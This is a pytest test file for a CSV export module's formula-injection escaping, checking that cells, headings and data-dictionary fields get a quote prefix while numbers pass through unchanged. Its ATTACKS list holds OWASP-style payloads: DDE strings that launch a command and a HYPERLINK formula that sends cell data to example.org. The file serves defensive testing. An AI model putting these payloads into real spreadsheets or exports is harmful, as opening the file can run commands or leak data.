"""Cells of CSV files: no spreadsheet runs one, and numbers stay numbers."""

import csv
import datetime as dt
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestration.operations.sql import Answer
from orchestration.release.store.csv_cells import escape_formula, write_csv
from orchestration.release.store.manifest import write_dictionary
from orchestration.release.store.tier_files import ColumnFacts, TableFacts

# The attacks of the OWASP page on CSV injection, and its list of characters.
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_becomes_a_text(attack):
    assert escape_formula(attack) == f"'{attack}"


@pytest.mark.parametrize(
    "value",
    [
        *("w2011", "Policy > Mixed messages", "", "'=1", "a=1", "-5", "+0.5", "-1.5e-7"),
        *(-5, -0.25, Decimal("-1.5"), None, True, dt.date(2011, 1, 1)),
    ],
)
def test_other_values_stay_as_they_are(value):
    assert escape_formula(value) == value


@given(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False)))
def test_no_text_starts_a_formula_and_every_number_survives(value):
    cell = escape_formula(value)
    if isinstance(value, str):
        assert cell in (value, f"'{value}")
        assert cell[:1] not in tuple("=+-@\t\r\n") or float(cell) is not None
    else:
        assert cell == value


def test_an_answer_escapes_cells_and_headings():
    answer = Answer(columns=("=1+1", "count"), rows=(("@SUM(A1)", -3), ("fine", -0.5)))
    assert answer.as_csv() == "'=1+1,count\n'@SUM(A1),-3\nfine,-0.5\n"


def test_a_table_is_written_as_frictionless_reads_it(tmp_path):
    write_csv(
        tmp_path / "a.csv",
        ["label", "moment", "day", "is_new", "parts", "count"],
        [("=1", dt.datetime(2026, 1, 2, 3, 4, 5), dt.date(2026, 1, 2), True, ["a", "é"], None)],  # noqa: DTZ001
    )
    (row,) = csv.DictReader((tmp_path / "a.csv").open(encoding="utf-8", newline=""))
    assert row == {
        "label": "'=1",
        "moment": "2026-01-02T03:04:05Z",
        "day": "2026-01-02",
        "is_new": "true",
        "parts": '["a", "é"]',
        "count": "",
    }


def test_the_dictionary_of_a_release_is_safe_to_open(tmp_path):
    table = TableFacts("t", "=1+1", 0, "", (ColumnFacts("c", "VARCHAR", "-1+1"),))
    write_dictionary(tmp_path / "d.csv", {"public": (table,)})
    rows = list(csv.reader((tmp_path / "d.csv").open(encoding="utf-8", newline="")))
    assert [row[-1] for row in rows] == ["description", "'=1+1", "'-1+1"]
